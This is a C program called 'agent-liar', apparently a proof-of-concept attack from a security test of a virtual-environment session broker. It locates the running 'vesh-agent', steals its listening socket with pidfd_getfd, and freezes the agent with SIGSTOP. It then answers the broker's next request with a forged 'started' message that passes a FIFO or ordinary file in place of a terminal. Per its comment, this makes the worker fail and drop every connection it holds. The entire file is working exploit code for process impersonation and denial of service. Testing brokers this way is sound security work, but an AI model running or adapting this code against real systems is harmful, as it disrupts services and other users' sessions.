/*
 * agent-liar: VE root answers for the VE's session agent, which the broker
 * now asks itself. It takes the agent's listening socket (fd 3) with
 * pidfd_getfd (VE root may ptrace its own processes), stops the real agent,
 * and answers the next request with "started" and, in place of the
 * terminal's master, a descriptor of its choosing:
 *   fifo   a FIFO of the VE, opened read-write (not a terminal: a worker
 *          that took it for one would fail on it, and with it every
 *          connection it holds);
 *   file   a regular file of the VE.
 * Then it lets the real agent go on and exits.
 * Usage: agent-liar fifo|file WAIT_SECONDS
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

struct reply {
  uint32_t type;
  int32_t value;
  char text[200];
};

/* The live vesh-agent's pid, or -1. */
static int agent_pid(void) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  int found = -1;
  while (found < 0 && d && (e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid <= 0) continue;
    char path[64], comm[64] = "", stat[256] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    FILE *f = fopen(path, "r");
    int named = f && fgets(comm, sizeof comm, f) && !strcmp(comm, "vesh-agent\n");
    if (f) fclose(f);
    if (!named) continue;
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    f = fopen(path, "r");
    if (f && fgets(stat, sizeof stat, f)) {
      char *rp = strrchr(stat, ')');
      if (rp && rp[1] == ' ' && rp[2] != 'Z') found = pid;
    }
    if (f) fclose(f);
  }
  if (d) closedir(d);
  return found;
}

/* The descriptor handed over as the "terminal". */
static int bait(const char *kind) {
  if (!strcmp(kind, "fifo")) {
    unlink("/tmp/agent-liar.fifo");
    if (mkfifo("/tmp/agent-liar.fifo", 0600) < 0) return -1;
    return open("/tmp/agent-liar.fifo", O_RDWR);
  }
  return open("/tmp/agent-liar.file", O_RDWR | O_CREAT, 0600);
}

int main(int argc, char **argv) {
  if (argc < 3) return fprintf(stderr, "usage: agent-liar fifo|file WAIT_SECONDS\n"), 2;
  int wait_s = atoi(argv[2]);
  int fd = bait(argv[1]);
  if (fd < 0) return printf("cannot make the bait: %s\n", strerror(errno)), 1;
  int agent = agent_pid();
  if (agent < 0) return printf("no agent\n"), 1;
  int pidfd = (int)syscall(SYS_pidfd_open, agent, 0);
  int lfd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, 3, 0);
  if (lfd < 0) return printf("cannot take the agent's socket: %s\n", strerror(errno)), 1;
  kill(agent, SIGSTOP);
  printf("impersonating agent %d\n", agent);
  fflush(stdout);
  int rc = 1;
  struct pollfd p = { .fd = lfd, .events = POLLIN };
  if (poll(&p, 1, wait_s * 1000) > 0) {
    int c = accept(lfd, NULL, NULL);
    static char req[65536];
    if (c >= 0 && recv(c, req, sizeof req, 0) > 0) {
      struct reply r = { .type = 1, .value = 1 }; /* MSG_STARTED, pid 1 */
      struct iovec iov = { &r, sizeof r };
      union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
      } u;
      struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf };
      struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
      cm->cmsg_level = SOL_SOCKET;
      cm->cmsg_type = SCM_RIGHTS;
      cm->cmsg_len = CMSG_LEN(sizeof(int));
      memcpy(CMSG_DATA(cm), &fd, sizeof(int));
      if (sendmsg(c, &mh, MSG_NOSIGNAL) == (ssize_t)sizeof r) {
        printf("answered with a %s\n", argv[1]);
        rc = 0;
      }
      fflush(stdout);
      usleep(1000 * 1000);
      close(c);
    }
  }
  kill(agent, SIGCONT);
  return rc;
}
